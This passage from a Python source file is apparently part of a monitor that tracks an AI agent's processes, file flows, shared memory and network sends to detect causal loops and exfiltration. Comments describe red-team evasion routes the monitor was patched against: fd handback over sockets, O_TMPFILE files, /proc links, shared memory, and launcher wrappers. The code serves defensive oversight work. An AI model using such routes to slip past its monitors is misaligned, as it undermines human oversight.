        attached) is the agent's own; a fork is the agent's own while its parent is and until it
        execs (see is_agent).
        """
        self._gen += 1
        node = f"{pid}.{self._gen}"
        if len(self._inst) >= self.max_pids:
            self._inst.pop(next(iter(self._inst)))
        self._inst[pid] = node
        self._set_image(node, self.images.get(pid, f"exe:?{pid}"))
        if parent is not None:
            _bounded_put(self._parent, node, parent, 4 * self.max_pids)
        if parent is None:
            _bounded_put(self._agent, node, True, self.max_pids)
        elif parent in self._agent or parent in self._agent_code:
            _bounded_put(self._agent, node, False, self.max_pids)
        return node

    def is_agent(self, node: str) -> bool:
        """Is this process instance the agent itself, rather than a program it started?

        The agent is what the sensor found in the watched tree (the attached process and
        anything running in its tree before the sensor saw it fork: an agent's own MCP server,
        its workers) and its forks that have not exec'd (a forked worker runs the agent's code).
        A program started by fork+exec is a tool, and so is everything it starts: ``make``'s
        compilers, ``git``'s children; so is any process but the attached one once it execs
        (one first seen at its exec is a child whose fork record was lost, or a rare
        pre-attach helper re-exec'ing).  A causal loop is data coming back INTO the agent.
        """
        return node in self._agent or node in self._agent_code

    def _authored(self, ev: Event, pid: int, runner: str) -> str | None:
        """The agent's code this exec runs, if it runs the agent's code: then it is the agent acting.

        A code tool that runs the model's snippet in a child interpreter runs the agent's
        own code in another process: AutoGen's ``LocalCommandLineCodeExecutor`` writes it
        to ``tmp_code_<sha256>.py`` and runs ``python3`` on it.  Taken as a tool, its loop -- write a
        script, run it, read back what it wrote -- was that tool's own pipeline and no
        loop of the agent's (the AutoGen stack's ``L3-cycle``, missed).  What counts, for
        an interpreter that is not a shell (:data:`h7.detect.programs.SHELLS` act only by
        running programs, and do every redirection in a fork: taken for the agent, each
        ``cmd > out; cmd2 < out`` would be a loop):

        * the program file itself (``filename``: an agent-written ``job.py`` with its
          ``#!``, an ELF it copied), when the last process to write that path was the
          agent's -- the agent itself or a fork of it, not a run of its code: a snippet's
          own ``stage2.py`` is a program the snippet fed, so the snippet's loop through it
          is one loop over both files, as the demo's is;
        * an interpreter binary's code operand (:func:`h7.detect.programs.code_operand`):
          a script file the agent wrote, or inline code or stdin (``python3 -c``, ``node
          -e``: LlamaIndex's code tool), which only its caller can have supplied.
          ``python3 -m pytest`` over the agent's tests and ``pip`` building its package
          run installed code on the agent's files, and stay tools.

        Such a run closes loops only through what it started itself (:meth:`_read`):
        taken for the agent with every loop the agent has, a one-liner importing what pip
        or npm had just built from the agent's package was a loop (three red-team benign
        acts: ``pip_cext_import_dev``, ``r4_npm_offline_install``, ``r9_npm_postinstall``),
        and so was one snippet reading what an earlier snippet wrote.

        The caller asks only for an exec *by* an agent process (a fork of the agent or of
        its code), with ``agent_code_runs`` on; ``runner`` is the family of the program the
        kernel ran (:func:`h7.detect.programs.normalise_name`).  ``git bisect run check.py``
        and the agent's git hooks run as git's callbacks and read git's checkout as the
        tool's (taking them for the agent made every bisect step of the DEV journal
        ``builds_and_loops_dev`` a loop), and a script behind the agent's ``sh -c`` stays
        a tool whose loop closes as before, through the script that fed it.  Returns the
        file, or ``inline:-c``-style text.
        """
        if runner in SHELLS:
            return None
        cwd = self.cwd_of(pid)
        fn = str(ev.get("filename", ""))
        path = resolve_path(fn, cwd)
        if path is not None and path in self._agent_wrote:
            return path
        interp = str(ev.get("interp", ""))
        args = ev.get("args") or []
        if (interp and interp != fn) or not isinstance(args, list) or not args:
            return None  # a #! script (its code is the file) or no argv to read
        run = code_operand(runner, [str(a) for a in args])
        if run is None:
            return None  # installed code (-m), or none
        if run.how != "file":
            return f"{run.how}:{run.what}"
        path = resolve_path(run.what, cwd)
        return path if path is not None and path in self._agent_wrote else None

    def _link(self, node: str) -> ProcEdge | None:
        """How the agent reached ``node`` so far: a flow of the agent's file into it, else its spawn.

        None once ``node`` relays its own pipeline's product (:meth:`_relays`).
        """
        if node in self._relaying:
            return None
        return self._fed.get(node) or self._spawned.get(node)

    def _descends(self, node: str, ancestor: str) -> bool:
        """Was ``node`` forked, directly or through its parents, by ``ancestor``?"""
        for _ in range(MAX_PIPELINE_DEPTH):
            parent = self._parent.get(node)
            if parent is None:
                return False
            if parent == ancestor:
                return True
            node = parent
        return False

    def _own(self, src: str, run: str) -> bool:
        """Is ``src`` the process ``run`` itself or one it forked (directly or through its children)?"""
        return src == run or self._descends(src, run)

    def _relays(self, reader: str, writer: str) -> bool:
        """Does a tool's read of ``writer``'s file make its later writes a pipeline's product?

        A build hands back what its own children produced: ``pip wheel`` runs
        the setuptools backend in a child, which writes the wheel into pip's
        cache; pip reads it there and copies it to ``-w dist/`` (red-team round
        8's held-out ``benign_r8_pip_wheel_build``: its CAUSAL_CYCLE was pip's
        copy read back by the agent).  The data then went through two programs
        between the agent's write and its read -- the backend, then pip -- the
        shape of ``make``'s linker, which is no loop (see CausalChannel._cycles).
        Only a writer that is the reader's own descendant, and not the agent,
        counts: a tool reading another tool's output (a ``curl -o`` download) or
        the agent's files is still fed by the agent.
        """
        return not self.is_agent(reader) and not self.is_agent(writer) and self._descends(writer, reader)

    def _set_image(self, node: str, img: str) -> None:
        self.proc_image.pop(node, None)
        if len(self.proc_image) >= 4 * self.max_pids:
            self.proc_image.pop(next(iter(self.proc_image)))
        self.proc_image[node] = img

    def _wrote(self, path: str, node: str, img: str) -> None:
        self._agent_wrote.pop(path, None)  # re-inserted last if the agent wrote it: oldest first out
        if node in self._agent:  # the agent itself, not a run of its code (see _authored)
            _bounded_put(self._agent_wrote, path, node, self.max_paths)
        ws = self.writers.pop(path, [])  # re-inserted last: the dict is kept in LRU order
        # the link is taken NOW: a tool fed the agent's file only after it wrote this one did not
        # write it from the agent's data (a loop must run forward in time)
        ws = [
            *[w for w in ws if w[0] != node][-(MAX_WRITERS - 1) :],
            (node, img, self.learning, self._link(node)),
        ]
        if len(self.writers) >= self.max_paths:
            self.writers.pop(next(iter(self.writers)))
        self.writers[path] = ws

    def cwd_of(self, pid: int) -> str:
        """``pid``'s working directory: absolute once a chdir named it, else the token of an unknown one.

        A process first seen without a known cwd (the agent itself, anything
        running when the sensor attached) gets a token of its own
        (``?<process instance>``); its children inherit it, so the agent and a
        tool it starts without changing directory still share one cwd, while
        two unrelated processes' ``out.json`` are never one file.
        """
        cwd = self.cwd.get(pid)
        if cwd is None:
            cwd = f"?{self._proc(pid)}"
            self.set_cwd(pid, cwd)
        return cwd

    def set_cwd(self, pid: int, cwd: str) -> None:
        """``pid``'s working directory is ``cwd`` (absolute, or an unknown one's token)."""
        self.cwd.pop(pid, None)
        if len(self.cwd) >= self.max_pids:
            self.cwd.pop(next(iter(self.cwd)))
        self.cwd[pid] = cwd

    def _through_proc_link(self, path: str, pid: int) -> str | None:
        """The concrete path behind ``/proc/PID/cwd/...`` or ``/proc/PID/root/...``, or None.

        Why: such an open names only ``/proc`` (no flow), yet it opens the very file
        PID's relative (or absolute) name does: an agent reading its child's answer as
        ``/proc/CHILD/cwd/answer.txt`` is reading what the child wrote as
        ``answer.txt`` (round 10's /proc magic-link class; ``fd/N`` comes from the
        kernel's ``reopened`` record instead).  ``root`` is taken as the caller's own
        root (a process in another mount namespace names other files: then no writer
        matches, no flow); ``cwd`` of a process this graph never saw is unknown (None).
        """
        m = _PROC_LINK.match(path)
        if m is None:
            return None
        who = int(m.group(1)) if m.group(1).isdigit() else pid
        rest = m.group(3)
        if m.group(2) == "root":
            return resolve_path("/" + rest, "/")
        if who != pid and who not in self.cwd and who not in self._inst:
            return None
        return resolve_path(rest or ".", self.cwd_of(who))

    def _chdir(self, ev: Event) -> None:
        """chdir(2) names the new cwd (against the old one); fchdir(2) holds a fd: unknown, unshared."""
        pid = int(ev.get("pid", 0))
        new = None
        if int(ev.get("dfd", AT_FDCWD)) == AT_FDCWD:
            new = resolve_path(str(ev.get("path", "")), self.cwd_of(pid))
        if new is None:
            self._fchdirs += 1
            new = f"?{self._proc(pid)}~{self._fchdirs}"
        self.set_cwd(pid, new)

    def _rename(self, ev: Event) -> None:
        """rename(2) comes as two records, the old name then the new: the file keeps its writers.

        The data did not change hands, so the renaming process is no writer of
        it: ``sort -o out.tmp`` + ``mv out.tmp out.json`` + a read of out.json
        is still a flow from sort to the reader.
        """
        tid = int(ev.get("tid", 0))
        spelled = str(ev.get("path", ""))
        usable = spelled.startswith("/") or int(ev.get("dfd", AT_FDCWD)) == AT_FDCWD
        path = (resolve_path(spelled, self.cwd_of(int(ev.get("pid", 0)))) or "") if usable else ""
        usable = bool(path)
        if ev.get("op") == "rename_from":
            self._renaming[tid] = path
            if len(self._renaming) > 1024:  # a from without its to (cannot happen in order; bounded anyway)
                self._renaming.pop(next(iter(self._renaming)))
            return
        old = self._renaming.pop(tid, "")
        ws = self.writers.pop(old, None) if old else None
        by_agent = self._agent_wrote.pop(old, None) if old else None
        self._agent_wrote.pop(path, None)  # what was there is replaced
        if by_agent is not None and usable and carries_data(path):
            _bounded_put(self._agent_wrote, path, by_agent, self.max_paths)
        if ws and usable and carries_data(path):
            if len(self.writers) >= self.max_paths:
                self.writers.pop(next(iter(self.writers)))
            self.writers[path] = ws
        key = self._path_inode.pop(old, None) if old else None
        if key is not None and usable and carries_data(path):  # an fd passed later names the new path
            self._learn_inode(key, path)

    def _read(
        self,
        path: str,
        node: str,
        img: str,
        flows: list[ProcEdge],
        label: str | None = None,
        only: str | None = None,
    ) -> None:
        """A read of a concrete path some *other* process wrote: a data flow between processes.

        Into the agent (:meth:`is_agent`), the flow carries how the agent had reached its writer
        when it wrote (``via``); out of the agent into a tool, it is how that tool was fed the
        agent's data (its first such flow is kept: see _link).  ``label``: the image-level node
        (default: the file's); ``only``: the one writer whose data is read (a shared-memory
        segment written while ``node`` held it attached).
        """
        ws = self.writers.get(path)
        if not ws:
            return
        label = label or "file:" + normalise_file(spelled_part(path))
        into_agent = self.is_agent(node)
        for wnode, wimg, old, link in ws:
            if wnode == node or (only is not None and wnode != only):
                continue
            if node not in self._relaying and self._relays(node, wnode):
                if len(self._relaying) >= self.max_pids:
                    self._relaying.pop()
                self._relaying.add(node)
            via = link if into_agent else None
            if via is not None and node in self._agent_code and not self._own(via.src, node):
                # a run of the agent's code closes loops only through what it started itself: a
                # one-liner importing what pip built from the agent's package is the agent's
                # loop through pip if anyone's, and one snippet reading what an earlier snippet
                # wrote is the agent's code reading its own files (see _authored)
                via = None
            fe = ProcEdge(wnode, node, "flow", path, (wimg, label, img), old, via)
            flows.append(fe)
            # (a run of the agent's own code keeps the flow of the agent's file that fed it, its
            # script, as a tool does: what it writes and the agent reads back names that script)
            fed = not into_agent or node in self._agent_code
            if fed and self.is_agent(wnode) and node not in self._fed:
                _bounded_put(self._fed, node, fe, self.max_pids)

    def _learn_inode(self, key: tuple[int, int, int], path: str) -> None:
        """The inode ``key`` is the file at the concrete ``path`` (and a rename carries it along)."""
        _bounded_put(self.inode_paths, key, path, self.max_paths)
        _bounded_put(self._path_inode, path, key, self.max_paths)

    def _held_file(self, ev: Event, out: list[Edge], flows: list[ProcEdge]) -> None:
        """A ``file`` record: an inode's path learnt at its writable open, or a file received as an fd.

        Why: red-team round 8's ``l3r8_cycle_fd_handback`` -- a helper the agent
        started opens and writes ``result.json`` and passes the open fd back over a
        unix socket (SCM_RIGHTS); the agent reads it with no open, so no path record
        says what it read.  The kernel names the received file by its inode; the
        helper's writable open returned that inode (op ``opened``, right after its
        open record), so the received file is the concrete path the helper wrote,
        and the receipt is taken as an open of that path with the file's access mode
        (as if the receiver had opened it: a read edge, and a write one for an
        O_RDWR/O_WRONLY file).  A file no watched process opened for writing has no
        writer here, hence no flow, and is left out of the graph (no name to give it).

        An ``O_TMPFILE`` open names only a directory, and the file it creates has
        no name at all (red-team round 10's ``l3r10_cycle_otmpfile_procfd``
        class): its writer is taken here, at the ``opened`` record, under a
        concrete name made of the directory and the inode (:data:`TMPFILE_NAME`),
        so a later holder of that inode reads what it wrote.  An open of
        ``/proc/PID/fd/N`` (a magic link) names only ``/proc``, which carries no
        flow: the kernel reports the file it returned (op ``reopened``), taken
        here like a received one.

        A file opened for reading that a process of the same agent wrote (op ``read_written``)
        is the file that process wrote, whatever this open spelled: red-team round 5's
        ``l3r5_symlinked_dir_loop`` (a forked child writes ``link/out.json``, the agent reads
        ``real/out.json``, ``link`` a symlink to ``real``) was two files to a graph that
        compared paths.  The open record has already read the path it named; when that path
        is the one the inode was written through, nothing is added (the same read twice), else
        the read is of the written path too (a hard link, a bind mount, a directory reached
        through a symlink, ``openat(dirfd, name)`` whose directory no record names).
        """
        key = (int(ev.get("dev", 0)), int(ev.get("ino", 0)), int(ev.get("gen", 0)))
        tid = int(ev.get("tid", 0))
        if ev.get("op") == "read_written":
            spelled = self._last_open.pop(tid, None)
            if not self.reads_by_inode or self.inode_paths.get(key) in (None, spelled):
                return
            self.respelled_reads += 1
        elif ev.get("op") == "opened":
            real = self._last_open.pop(tid, None)
            tmpfile = self._last_tmpfile.pop(tid, False)
            if real is not None and carries_data(real):
                if tmpfile:
                    # O_TMPFILE: the open named only a directory; the inode is the file, written now
                    real = f"{real.rstrip('/')}/{TMPFILE_NAME.format(dev=key[0], ino=key[1], gen=key[2])}"
                    self._wrote(real, self._proc(int(ev.get("pid", 0))), self.image(ev))
                self._learn_inode(key, real)
            return
        elif ev.get("op") not in HELD_OPS:
            return
        path = self.inode_paths.get(key)
        if path is None:
            return
        pid = int(ev.get("pid", 0))
        img = self.image(ev)
        node = "file:" + normalise_file(spelled_part(path))
        acc = int(ev.get("flags", 0)) & O_ACCMODE
        proc = self._proc(pid)
        if acc in (0, O_RDWR):
            out.append((node, img, "read"))
            if is_secret(node):
                self.batch_sensitive.add(tid)
            self._read(path, proc, img, flows)
        if acc in (O_WRONLY, O_RDWR):
            out.append((img, node, "write"))
            if is_persistence(node):
                self.batch_sensitive.add(tid)
            self._wrote(path, proc, img)

    def _shm(self, ev: Event, out: list[Edge], flows: list[ProcEdge]) -> None:
        """A SysV shared-memory segment is a node; attaching it reads it, and (not SHM_RDONLY) writes it.

        Why: red-team round 8's ``l3r8_cycle_sysv_shm`` -- the agent attaches a
        segment, then runs a child that attaches it by key and writes its result
        there; the agent reads its own attachment with plain loads, no syscall.  So a
        writable attachment is a write that flows at once into every OTHER process
        holding the segment attached (attached, not yet detached, exec'd or exited):
        whatever the writer stores, they can read.  An attachment made after the
        write reads it like a file opened after it.  Not modelled: attachments a fork
        inherits without calling shmat (the child is the agent's own until it execs),
        segments of processes outside the agent's tree (the graph has only its side).
        """
        op = ev.get("op")
        pid = int(ev.get("pid", 0))
        if op == "dt":
            seg = self._shm_held.get(pid, {}).pop(int(ev.get("addr", 0)), None)
            if seg is not None and seg not in self._shm_held.get(pid, {}).values():
                self._shm_holders.get(seg, {}).pop(self._proc(pid), None)
            return
        if op != "at":
            return
        seg = f"shm:sysv:{ev.get('ipc_ns', 0)}:{ev.get('shmid', -1)}"
        img = self.image(ev)
        proc = self._proc(pid)
        out.append((SHM_NODE, img, "read"))
        self._read(seg, proc, img, flows, label=SHM_NODE)
        if not int(ev.get("flags", 0)) & SHM_RDONLY:
            out.append((img, SHM_NODE, "write"))
            self._wrote(seg, proc, img)
            for holder, himg in list(self._shm_holders.get(seg, {}).items()):
                if holder != proc:
                    self._read(seg, holder, himg, flows, label=SHM_NODE, only=proc)
        holders = self._shm_holders.pop(seg, {})  # re-inserted last: LRU order, bounded
        holders[proc] = img
        _bounded_put(self._shm_holders, seg, holders, self.max_paths)
        held = self._shm_held.pop(pid, {})
        held[int(ev.get("addr", 0))] = seg
        _bounded_put(self._shm_held, pid, held, self.max_pids)

    def _shm_drop(self, pid: int) -> None:
        """``pid`` exec'd or exited: the kernel detached every segment it had attached."""
        held = self._shm_held.pop(pid, None)
        node = self._inst.get(pid)
        if held and node is not None:
            for seg in set(held.values()):
                self._shm_holders.get(seg, {}).pop(node, None)

    def edges(self, events: list[Event], flows: list[ProcEdge] | None = None) -> list[Edge]:
        """The batch's image-level edges; with ``flows``, also the process-level flow graph's."""
        out: list[Edge] = []
        fl: list[ProcEdge] = flows if flows is not None else []
        self.batch_images = {}
        self.batch_spawners = set()
        self.batch_spawner_pids = set()
        self.batch_imports = {}
        self.batch_sensitive = set()
        self.batch_workers = self.fresh_forks()
        for ev in events:
            t = ev.get("type")
            if t in OUTSIDE_TYPES:
                continue  # a process outside the agent's tree (L2's receiver exec): no node of this graph
            self.batch_images[int(ev.get("pid", 0))] = self.image(ev)
            if t == "fork":
                child = int(ev.get("child", 0))
                pid = int(ev.get("pid", 0))
                img = self.image(ev)
                self._remember(child, img)
                if child and child != pid:  # a thread is no new process
                    self.set_cwd(child, self.cwd_of(pid))
                    tid = int(ev.get("tid", pid))
                    self.batch_spawners.add(tid)
                    self.batch_spawner_pids.add(pid)
                    if len(self._children) >= self.max_pids:
                        self._children.pop(next(iter(self._children)))
                    self._children[child] = (tid, int(ev.get("ts_ns", 0)), pid)
                    parent = self._proc(pid)
                    spawn = ProcEdge(parent, self._new_proc(child, parent), "spawn", "", (img, "", img))
                    fl.append(spawn)
                    if self.is_agent(parent):
                        _bounded_put(self._spawned, spawn.dst, spawn, self.max_pids)
                        self.batch_workers.add(child)
            elif t == "exec":
                before = self.image(ev)
                fn = str(ev.get("filename", ""))
                interp = str(ev.get("interp", "")) or fn
                exe_name = str(ev.get("exe_name", "")) or os.path.basename(interp)
                d = os.path.dirname(interp)
                new = normalise_exe(os.path.join(d, exe_name) if d else exe_name)
                out.append((before, new, "exec"))
                if fn:
                    out.append(("file:" + normalise_file(fn), new, "load"))
                pid = int(ev.get("pid", 0))
                self._shm_drop(pid)  # an exec unmaps every attachment
                self._remember(pid, new)
                self.batch_images[pid] = new
                self.batch_workers.discard(pid)  # it runs another program now: scored as that program
                proc = self._proc(pid)
                self._set_image(proc, new)
                runner = normalise_name(exe_name)
                by_agent = self.agent_code_runs and self.is_agent(proc)
                authored = self._authored(ev, pid, runner) if by_agent else None
                if authored is None and by_agent and runner in TRANSPARENT_LAUNCHERS:
                    # `env`, `nice`, `timeout`... only adjust how the command they are given runs
                    # (h7.detect.programs.TRANSPARENT_LAUNCHERS): the process stays what it was
                    # until they exec that command, which is then judged as the agent's exec (`env
                    # python3 job.py`, a `#!/usr/bin/env python3` script the agent wrote, as
                    # `python3 job.py`; `nice sort` is sort, a tool, at sort's exec).  Without it a
                    # launcher was the cheapest way past _authored.
                    pass
                else:
                    if proc in self._agent and (self._agent[proc] is False or pid != self.root_pid):
                        # A fork of the agent that execs runs another program: a tool.  So does a
                        # process first seen at its exec whose fork record was lost (ring-buffer
                        # drop): its loop through the agent's script is still closed by the flow
                        # that fed it.  Only the attached process stays the agent whatever it runs,
                        # and a run of the agent's own code is the agent too (_authored).
                        del self._agent[proc]
                    if authored is not None and proc not in self._agent:
                        _bounded_put(self._agent_code, proc, authored, self.max_pids)
                    else:
                        self._agent_code.pop(proc, None)
                for f in {fn, str(ev.get("interp", ""))}:  # what runs is read: a load is a flow too
                    rf = resolve_path(f, self.cwd_of(pid))
                    if rf is not None and carries_data(rf):
                        self._read(rf, proc, new, fl)
            elif t == "open" and str(ev.get("op", "")).startswith("rename_"):
                self._rename(ev)
            elif t == "open" and ev.get("op") == "chdir":
                self._chdir(ev)
            elif t == "open":
                img = self.image(ev)
                flags = int(ev.get("flags", 0))
                path = str(ev.get("path", ""))
                if not path and str(ev.get("op", "")).startswith("xattr_"):
                    continue  # f{set,get}xattr: an fd, no name to put in the graph
                tid = int(ev.get("tid", 0))
                pid = int(ev.get("pid", 0))
                linked = self._through_proc_link(path, pid)
                if linked is not None:
                    path = spelled_part(linked)  # the file itself, named as its process names it
                tmpfile = flags & O_TMPFILE == O_TMPFILE
                if flags & O_DIRECTORY and not tmpfile:
                    out.append(("dir:" + normalise_dir(path.rstrip("/") or "/"), img, "list"))
                    _bounded_put(self._last_open, tid, None, self.max_pids)
                    continue
                if tmpfile:  # a new unnamed file in `path`, written (nothing in it to read yet)
                    acc = O_WRONLY
                    base = TMPFILE_NAME.format(dev=0, ino=0, gen=0)
                    node = "file:" + normalise_file(f"{path.rstrip('/')}/{base}")
                else:
                    acc = flags & O_ACCMODE
                    node = "file:" + normalise_file(path)
                if acc in (0, O_RDWR):
                    out.append((node, img, "read"))
                    root = module_root(node) if acc == 0 else None
                    if root is not None:
                        self.batch_imports.setdefault(tid, set()).add(root)
                    if is_secret(node):
                        self.batch_sensitive.add(tid)
                if acc in (O_WRONLY, O_RDWR):
                    out.append((img, node, "write"))
                    if is_persistence(node):
                        self.batch_sensitive.add(tid)
                dfd = int(ev.get("dfd", AT_FDCWD))
                real = (
                    linked
                    if linked is not None
                    else resolve_path(path, self.cwd_of(pid))
                    if path.startswith("/") or dfd == AT_FDCWD
                    else None
                )
                # an O_TMPFILE file's writer is taken at its file record: only the inode names it
                if real is not None and carries_data(real) and not tmpfile:
                    proc = self._proc(pid)
                    if acc in (0, O_RDWR):
                        self._read(real, proc, img, fl)
                    if acc in (O_WRONLY, O_RDWR):
                        self._wrote(real, proc, img)
                _bounded_put(self._last_open, tid, real, self.max_pids)
                if tmpfile:
                    _bounded_put(self._last_tmpfile, tid, True, self.max_pids)
                else:
                    self._last_tmpfile.pop(tid, None)
            elif t == "file":
                self._held_file(ev, out, fl)
            elif t == "shm":
                self._shm(ev, out, fl)
            elif t == "net" and ev.get("op") not in NOT_FLOW_OPS:  # a listen, a filter change: no flow
                fam = ev.get("family", "")
                dest = (
                    f"net:{fam}:{ev.get('addr', '')}:{ev.get('port', 0)}"
                    if fam in ("inet", "inet6")
                    else f"net:{fam}"
                )
                out.append((self.image(ev), dest, "connect" if ev.get("op") == "connect" else "send"))
            elif t == "ptrace":
                out.append((self.image(ev), f"pid-of-agent:{ev.get('target_agent', 0)}", "ptrace"))
            elif t == "exit" and int(ev.get("pid", 0)) == int(ev.get("tid", -1)):
                spawned = self._children.pop(int(ev.get("pid", 0)), None)
                if spawned is not None:
                    self.batch_spawners.add(spawned[0])  # its parent reaps it now (wait4, pipe EOF)
                    self.batch_spawner_pids.add(spawned[2])
                self._shm_drop(int(ev.get("pid", 0)))
                self.images.pop(int(ev.get("pid", 0)), None)
                gone = self._inst.pop(int(ev.get("pid", 0)), None)
                if gone is not None:  # (its writes keep their links: taken when they were made)
                    self._agent.pop(gone, None)
                    self._agent_code.pop(gone, None)
                    self._spawned.pop(gone, None)
                    self._fed.pop(gone, None)
                    self._relaying.discard(gone)
                self.cwd.pop(int(ev.get("pid", 0)), None)
        return out

    def fresh_forks(self) -> set[int]:
        """Processes the agent forked at most SPAWN_HOLD_NS ago that still run its code (no exec).

        A ``multiprocessing`` worker, a ``fork`` pool: the agent's own work handed
        to another process.  Its first seconds (``os.getpid()`` checks after the
        fork, a queue's feeder thread, results pickled into a pipe) are as new to a
        baseline that never forked as the fork itself, which the parent's thread
        already explains (:meth:`spawning_threads`): red-team round 8's benign
        two-worker pool scored 3.3 units of sequence novelty from its workers'
        reads and queue puts alone.  Their files, connects, execs and loops are
        still the graph's.  (Bounded like the parent's hold: a worker older than
        SPAWN_HOLD_NS is a service, scored as the agent.)
        """
        return {
            c
            for c in self._children
            if (inst := self._inst.get(c)) is not None and self._agent.get(inst) is False
        }

    def spawning_threads(self, t1_ns: int) -> set[int]:
        """Threads busy starting or waiting on a child process in the batch ending at ``t1_ns``.

        The thread that forked in this batch or reaps a child now, and one whose
        child (forked at most SPAWN_HOLD_NS ago) is still running: Python's
        ``subprocess`` pipes, forks, polls the child's output and ``wait4``s in the
        calling thread, and those windows are as new as the child itself to an
        agent whose baseline never spawned.  A child running longer than that is
        a service, not a tool's run: it is forgotten (its reaping then counts as
        the parent's ordinary windows), which also keeps this a walk over the
        last SPAWN_HOLD_NS of forks, whatever exit records were lost.
        """
        while self._children:  # in fork order: the oldest first
            oldest = next(iter(self._children))
            if t1_ns - self._children[oldest][1] <= SPAWN_HOLD_NS:
                break
            del self._children[oldest]
        busy = set(self.batch_spawners)
        busy.update(tid for tid, ts, _ in self._children.values() if t1_ns - ts <= SPAWN_HOLD_NS)
        return busy

    def spawning_processes(self, t1_ns: int) -> set[int]:
        """Processes with a thread in :meth:`spawning_threads` (call that first: it trims old children)."""
        procs = set(self.batch_spawner_pids)
        procs.update(pid for _, ts, pid in self._children.values() if t1_ns - ts <= SPAWN_HOLD_NS)
        return procs


def code_counts(windows: np.ndarray) -> CodeCounts:
    """Distinct window codes of a batch and their multiplicities.

    A busy agent repeats a few thousand windows millions of times, so this
    is what the baseline keeps per batch, not the syscalls.
    """
    w = np.asarray(windows, dtype=np.uint64)
    u, c = np.unique(w[w != 0], return_counts=True)  # 0: a record without a window (no syscall)
    return u, c.astype(np.int64)


def _tokens(names: tuple[str, ...]) -> np.ndarray:
    """Window tokens (syscall number + 2, bpf/h7.h) of the named syscalls on this host's architecture."""
    table = TABLES.get(platform.machine(), X86_64)
    return np.asarray(
        sorted(nr + 2 for nr, name in table.items() if name in names and nr + 2 < TOKEN_OTHER), np.uint64
    )


def last_token_in(windows: np.ndarray, tokens: np.ndarray) -> np.ndarray:
    """Which windows end with one of ``tokens`` (each syscall is the last of exactly one window)."""
    last = np.asarray(windows, dtype=np.uint64) & np.uint64(TOKEN_OTHER)
    hit = np.zeros(last.size, dtype=bool)
    for t in tokens.tolist():  # two tokens: cheaper than np.isin on a million windows
        hit |= last == np.uint64(t)
    return hit


def only_tokens(windows: np.ndarray, tokens: np.ndarray) -> np.ndarray:
    """Which windows hold nothing but ``tokens`` (a young thread's empty positions allowed)."""
    w = np.asarray(windows, dtype=np.uint64)
    ok = np.ones(w.size, dtype=bool)
    mask = np.uint64(TOKEN_OTHER)
    for j in range(WINDOW_LEN):
        tok = (w >> np.uint64(TOKEN_BITS * j)) & mask
        ok &= (tok == 0) | np.isin(tok, tokens)
    return ok


def merge_counts(parts: list[CodeCounts]) -> CodeCounts:
    if not parts:
        return np.zeros(0, np.uint64), np.zeros(0, np.int64)
    u = np.concatenate([p[0] for p in parts])
    c = np.concatenate([p[1] for p in parts])
    keys, inv = np.unique(u, return_inverse=True)
    return keys, np.bincount(inv, weights=c, minlength=keys.size).astype(np.int64)


def topk_mean(values: np.ndarray, counts: np.ndarray, k: int) -> float:
    """Mean of the ``k`` largest of a multiset (``values[i]`` occurring ``counts[i]`` times).

    Fewer than ``k`` elements: their mean (as SequenceModel.score does).
    """
    n = int(counts.sum()) if counts.size else 0
    if n == 0:
        return 0.0
    order = np.argsort(-values, kind="stable")
    v = values[order]
    c = np.minimum(counts[order], k)
    cum = np.cumsum(c)
    take = min(k, n)
    i = int(np.searchsorted(cum, take))  # first index where the running count reaches take
    full = float((v[:i] * c[:i]).sum())
    rest = take - (int(cum[i - 1]) if i else 0)
    return (full + float(v[i]) * rest) / take


def weighted_quantile(values: np.ndarray, counts: np.ndarray, q: float) -> float:
    order = np.argsort(values, kind="stable")
    cum = np.cumsum(counts[order])
    i = int(np.searchsorted(cum, q * cum[-1]))
    return float(values[order][min(i, values.size - 1)])


THREAD_START_SYSCALLS = ("rseq", "set_robust_list")  # glibc makes them once, as a thread starts
_START_TOKENS = _tokens(THREAD_START_SYSCALLS)
# A new thread starting and idling (CausalChannel.thread_birth_windows): nothing here touches a file,
# a socket or another process
THREAD_SYSCALLS = (
    *THREAD_START_SYSCALLS, "rt_sigprocmask", "sigaltstack", "mmap", "munmap", "mprotect", "madvise",
    "futex", "sched_yield", "gettid", "getpid", "prctl", "exit", "clone3", "clone",
)  # fmt: skip
_THREAD_TOKENS = _tokens(THREAD_SYSCALLS)


def window_names(code: int) -> list[str]:
    """The syscalls of a window code, oldest first (see bpf/h7.h for the encoding)."""
    out: list[str] = []
    for j in range(WINDOW_LEN - 1, -1, -1):
        tok = (code >> (TOKEN_BITS * j)) & TOKEN_OTHER
        if tok == 0:
            continue
        out.append("other" if tok == TOKEN_OTHER else (syscall_name(tok - 2) or str(tok - 2)))
    return out


def _fmt_edge(e: Edge) -> str:
    return f"{e[0]} -{e[2]}-> {e[1]}"


class CausalChannel(Channel):
    name = "L3"

    def __init__(self, config: EngineConfig) -> None:
        super().__init__(config)
        self.settings = config.settings(L3Settings)
        self.builder: CausalGraphBuilder | None = None
        self.base_edges: set[Edge] = set()
        self.base_nodes: set[str] = set()
        self.base_roots: set[str] = set()  # runtime module trees the baseline touched
        self.agent_image: str | None = None  # the agent's own image (exe: node), see footprint
        self._batch_edges: list[set[Edge]] = []
        self._batch_codes: list[CodeCounts] = []
        self.seq: SequenceModel | None = None
        self.tau = 0.0
        self.known: np.ndarray = np.zeros(0, np.uint64)  # sorted window codes valued at tau
        self.g_scale = G_SCALE_FLOOR
        self.s_med = 0.0
        self.s_spread = S_SPREAD_FLOOR
        self.cal = Calibration(L3_FLOOR, "uncalibrated")
        # the process-level flow graph (ProcEdge), kept across baseline and monitoring
        self._radj: dict[str, dict[str, list[ProcEdge]]] = {}  # dst -> src -> edges (searched backwards)
        self._order: deque[ProcEdge] = deque()
        self.base_flows: set[tuple[str, str, str]] = set()  # flows (projected) the baseline saw
        self._reported_cycles: set[str] = set()
        #: (agent process, writer, reader) of each certified loop -> its key (see _cycles); bounded
        self._loop_keys: OrderedDict[tuple[str, str, str], str] = OrderedDict()
        self._pool: dict[int, int] = {}  # pool threads (tid -> its process): see _pool_threads
        self._exfil = ExfilWindow()
        self.last: dict[str, Any] = {"divergence": 0.0}
        self.syscalls_shipped = 0  # while monitoring: windows the kernel shipped ...
        self.syscalls_known = 0  # ... and known windows it only counted

    def _builder(self, ctx: ChannelContext) -> CausalGraphBuilder:
        if self.builder is None:
            info = ctx.info
            self.builder = CausalGraphBuilder(info.root_pid if info else None, info.exe if info else None)
            self.builder.agent_code_runs = self.settings.agent_code_runs
            self.builder.reads_by_inode = self.settings.reads_by_inode
